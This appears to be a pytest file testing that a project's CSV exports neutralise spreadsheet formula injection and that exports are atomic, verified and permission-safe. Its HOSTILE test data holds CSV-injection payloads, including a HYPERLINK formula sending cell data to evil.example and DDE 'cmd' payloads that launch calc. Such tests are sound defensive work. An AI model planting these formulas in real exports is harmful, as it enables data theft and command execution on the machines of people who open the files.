"""Exports are spreadsheet-safe and atomic (issue 10, findings 7 and 8), on both backends.

CSV neutralises formula-like text (the OWASP rule) while JSON lines and Parquet keep the exact
text; an export replaces an earlier one only with ``--overwrite``, whole, in one step, so a
SIGKILLed re-export leaves the old complete export or the new one, never a lying manifest; and
``arena analyze --from-export`` checks the manifest first.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import time
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import insert, select, update

from arena.analytics.leaderboard import FIELDS, write_csv
from arena.csv_safe import safe_cell
from arena.errors import UserError
from arena.export.directory import verify_export
from arena.export.writer import ExportTarget, export
from arena.store.models import Decision, Family, Market, MarketPrice
from tests.analytics.export_files import read_rows
from tests.analytics.results_arena import build_arena
from tests.conftest import Database
from tests.helpers import run_arena, start_arena, write_config

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-.5", "-.5"),
        ("a=b", "a=b"),
        ("", ""),
        ("\x00=1+1", "'=1+1"),
        ("nul\x00byte", "nulbyte"),
    ],
)
def test_safe_cell_follows_the_owasp_rule(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def _plant_hostile_text(db: Database) -> dict[str, str]:
    """Give a family, a market and a decision formula-like text; return market id -> question."""
    build_arena(db.factory)
    with db.factory() as session, session.begin():
        families = list(session.scalars(select(Family.id).order_by(Family.id)))
        markets = list(session.scalars(select(Market.id).order_by(Market.id)))
        decisions = list(session.scalars(select(Decision.id).order_by(Decision.id)))
        questions: dict[str, str] = {}
        for index, text in enumerate(HOSTILE.values()):
            session.execute(update(Market).where(Market.id == markets[index]).values(question=text))
            questions[markets[index]] = text
            session.execute(
                update(Decision).where(Decision.id == decisions[index]).values(reasoning=text)
            )
        session.execute(
            update(Family).where(Family.id == families[0]).values(display_name=HOSTILE["="])
        )
    return questions


def test_csv_export_neutralises_formulas_and_other_formats_keep_the_text(
    db: Database, tmp_path: Path
) -> None:
    questions = _plant_hostile_text(db)
    for fmt in ("csv", "jsonl", "parquet"):
        export(db.factory, ExportTarget(tmp_path / fmt, fmt))
    csv_markets = {
        r["market_id"]: r["question"] for r in read_rows(tmp_path / "csv", "markets", "csv")
    }
    for market_id, text in questions.items():
        assert csv_markets[market_id] == "'" + text
    for fmt in ("jsonl", "parquet"):
        rows = {r["market_id"]: r["question"] for r in read_rows(tmp_path / fmt, "markets", fmt)}
        for market_id, text in questions.items():
            assert rows[market_id] == text, fmt
    reasoning = [r["reasoning"] for r in read_rows(tmp_path / "csv", "decisions", "csv")]
    assert sorted(r for r in reasoning if r.startswith("'")) == sorted(
        "'" + t for t in HOSTILE.values()
    )
    display = [r["display_name"] for r in read_rows(tmp_path / "csv", "families", "csv")]
    assert "'" + HOSTILE["="] in display
    # No CSV text cell starts a formula; negative numbers stay plain numbers.
    negatives = 0
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                for value in row.values():
                    if value[:1] in ("=", "+", "@", "\t", "\r"):
                        raise AssertionError(f"{path.name}: formula-like cell {value!r}")
                    if value.startswith("-"):
                        Decimal(value)  # only plain numbers may start with "-"
                        negatives += 1
    assert negatives > 0  # the arena has losses: their P/L cells stay numbers


def test_csv_export_strips_nul_bytes(sqlite_db: Database, tmp_path: Path) -> None:
    build_arena(sqlite_db.factory)
    with sqlite_db.factory() as session, session.begin():
        market_id = session.scalars(select(Market.id).order_by(Market.id)).first()
        session.execute(update(Market).where(Market.id == market_id).values(question="nul\x00here"))
    export(sqlite_db.factory, ExportTarget(tmp_path / "csv", "csv"))
    export(sqlite_db.factory, ExportTarget(tmp_path / "jsonl", "jsonl"))
    assert b"\x00" not in b"".join(p.read_bytes() for p in (tmp_path / "csv").iterdir())
    rows = {r["market_id"]: r["question"] for r in read_rows(tmp_path / "csv", "markets", "csv")}
    assert rows[market_id] == "nulhere"
    exact = {
        r["market_id"]: r["question"] for r in read_rows(tmp_path / "jsonl", "markets", "jsonl")
    }
    assert exact[market_id] == "nul\x00here"


def test_leaderboard_csv_neutralises_text_cells() -> None:
    out = io.StringIO()

    class Row:
        def to_json(self) -> dict[str, object]:
            data: dict[str, object] = dict.fromkeys(FIELDS)
            data.update(display_name="=cmd()", family_id="x", pnl="-12.50")
            return data

    write_csv([Row()], out)  # type: ignore[list-item]  # a standing is read through to_json
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["display_name"] == "'=cmd()"
    assert row["pnl"] == "-12.50"


# -- finding 8: atomic, refusing, verified exports -------------------------------------------


def test_export_into_a_non_empty_directory_is_refused_without_overwrite(
    db: Database, tmp_path: Path
) -> None:
    build_arena(db.factory)
    out = tmp_path / "export"
    export(db.factory, ExportTarget(out, "csv"))
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    with pytest.raises(UserError, match="not empty"):
        export(db.factory, ExportTarget(out, "jsonl"))
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    manifest = export(db.factory, ExportTarget(out, "jsonl", overwrite=True))
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted([f.file for f in manifest.files] + ["manifest.json"])
    assert not any(name.endswith(".csv") for name in names)  # no stale files of another format
    verify_export(out)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary dir


def test_overwrite_never_replaces_a_directory_that_is_not_an_export(
    sqlite_db: Database, tmp_path: Path
) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.tex").write_text("years of work")
    with pytest.raises(UserError, match=r"thesis\.tex"):
        export(sqlite_db.factory, ExportTarget(out, "jsonl", overwrite=True))
    assert (out / "thesis.tex").read_text() == "years of work"


def _cli(tmp_path: Path, db: Database, *args: str) -> tuple[int, str]:
    config = write_config(tmp_path / "c.yaml", db.url)
    result = run_arena("--config", str(config), *args, cwd=tmp_path)
    return result.returncode, result.stderr


def test_cli_export_errors_are_one_line(db: Database, tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("keep")
    code, stderr = _cli(tmp_path, db, "export", "--out", str(tmp_path / "a-file"))
    assert code == 2 and "not a directory" in stderr
    assert len(stderr.strip().splitlines()) == 1 and "Traceback" not in stderr
    assert (tmp_path / "a-file").read_text() == "keep"
    out = tmp_path / "export"
    assert _cli(tmp_path, db, "export", "--out", str(out), "--format", "csv")[0] == 0
    code, stderr = _cli(tmp_path, db, "export", "--out", str(out))
    assert code == 2 and "--overwrite" in stderr and "Traceback" not in stderr
    code, stderr = _cli(tmp_path, db, "export", "--out", str(out), "--overwrite")
    assert code == 0, stderr
    assert not list(out.glob("*.csv")) and (out / "forecasts.jsonl").is_file()


def test_analyze_from_export_verifies_the_manifest(db: Database, tmp_path: Path) -> None:
    build_arena(db.factory)
    out = tmp_path / "export"
    export(db.factory, ExportTarget(out, "jsonl"), methodology="v2")
    args = ("analyze", "ranking", "--from-export", str(out), "--bootstrap", "10")
    args += ("--at", "2027-01-01T00:00:00Z")
    code, stderr = _cli(tmp_path, db, *args)
    assert code == 0, stderr
    with (out / "forecasts.jsonl").open("a", encoding="utf-8") as handle:
        handle.write("\n")  # one changed byte
    code, stderr = _cli(tmp_path, db, *args)
    assert code == 2 and "forecasts.jsonl" in stderr and "sha256" in stderr
    assert len(stderr.strip().splitlines()) == 1 and "Traceback" not in stderr
    (out / "manifest.json").unlink()
    code, stderr = _cli(tmp_path, db, *args)
    assert code == 2 and "manifest.json" in stderr and "missing" in stderr
    assert "Traceback" not in stderr


def _bulk_prices(db: Database, rows: int) -> None:
    """Enough market prices that an export takes a while (to kill it midway)."""
    with db.factory() as session, session.begin():
        market_id = session.scalars(select(Market.id).order_by(Market.id)).first()
        start = datetime(2026, 1, 1, tzinfo=UTC)
        session.execute(
            insert(MarketPrice),
            [
                {
                    "market_id": market_id,
                    "observed_at": start + timedelta(seconds=i),
                    "prices": ["0.41", "0.59"],
                    "yes_price": Decimal("0.41"),
                    "volume": Decimal(1000 + i),
                }
                for i in range(rows)
            ],
        )


def _staged_files(parent: Path) -> int:
    staged = [p for p in parent.glob(".export.export-*") if p.is_dir()]
    return sum(1 for s in staged for _ in s.iterdir())


def test_a_killed_re_export_leaves_the_old_or_the_new_complete_export(
    db: Database, tmp_path: Path
) -> None:
    build_arena(db.factory)
    _bulk_prices(db, 60_000)
    config = write_config(tmp_path / "c.yaml", db.url)
    out = tmp_path / "export"
    first = run_arena("--config", str(config), "export", "--out", str(out), "-f", "csv")
    assert first.returncode == 0, first.stderr
    old = json.loads((out / "manifest.json").read_text())
    killed_midway = 0
    for files_before_kill in (1, 4, 8):
        proc = start_arena(
            "--config",
            str(config),
            "export",
            "--out",
            str(out),
            "-f",
            "jsonl",
            "--overwrite",
            cwd=tmp_path,
        )
        deadline = time.monotonic() + 300
        while proc.poll() is None and time.monotonic() < deadline:
            if _staged_files(tmp_path) >= files_before_kill:
                os.kill(proc.pid, signal.SIGKILL)
                break
            time.sleep(0.005)
        proc.wait(timeout=60)
        proc.communicate()
        killed_midway += proc.returncode == -signal.SIGKILL
        manifest = verify_export(out)  # checksums match whatever is there
        assert manifest["format"] in ("csv", "jsonl")
        if manifest["format"] == "csv":
            assert manifest == old
        names = sorted(p.name for p in out.iterdir())
        assert names == sorted([f["file"] for f in manifest["files"].values()] + ["manifest.json"])
    assert killed_midway >= 2  # the kills really hit exports in flight
    done = run_arena(
        "--config", str(config), "export", "--out", str(out), "-f", "jsonl", "--overwrite"
    )
    assert done.returncode == 0, done.stderr
    assert verify_export(out)["format"] == "jsonl"
    assert not list(out.glob("*.csv"))
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".export.")]


# -- issue 22, finding 10: the export directory's mode, and a read-only target ---------------


def test_export_directories_honour_the_umask(db: Database, tmp_path: Path) -> None:
    """As ``mkdir`` makes a directory: 0750 under umask 027 (not 0700, nor 0755)."""
    umask = 0o027
    config = write_config(tmp_path / "c.yaml", db.url)
    out = tmp_path / "export"
    previous = os.umask(umask)  # inherited by the arena process
    try:
        result = run_arena("--config", str(config), "export", "--out", str(out), cwd=tmp_path)
    finally:
        os.umask(previous)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o777 & ~umask  # as `mkdir` makes it
    for file in out.iterdir():
        assert stat.S_IMODE(file.stat().st_mode) == 0o666 & ~umask, file


def test_a_read_only_directory_is_refused_never_replaced(db: Database, tmp_path: Path) -> None:
    config = write_config(tmp_path / "c.yaml", db.url)
    out = tmp_path / "read-only"
    out.mkdir()
    out.chmod(0o555)
    inode = out.stat().st_ino
    for overwrite in ([], ["--overwrite"]):
        result = run_arena(
            "--config", str(config), "export", "--out", str(out), *overwrite, cwd=tmp_path
        )
        assert result.returncode == 2, result.stderr
        assert "is read-only" in result.stderr and "Traceback" not in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert out.stat().st_ino == inode and stat.S_IMODE(out.stat().st_mode) == 0o555
        assert not any(out.iterdir())
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no staging left
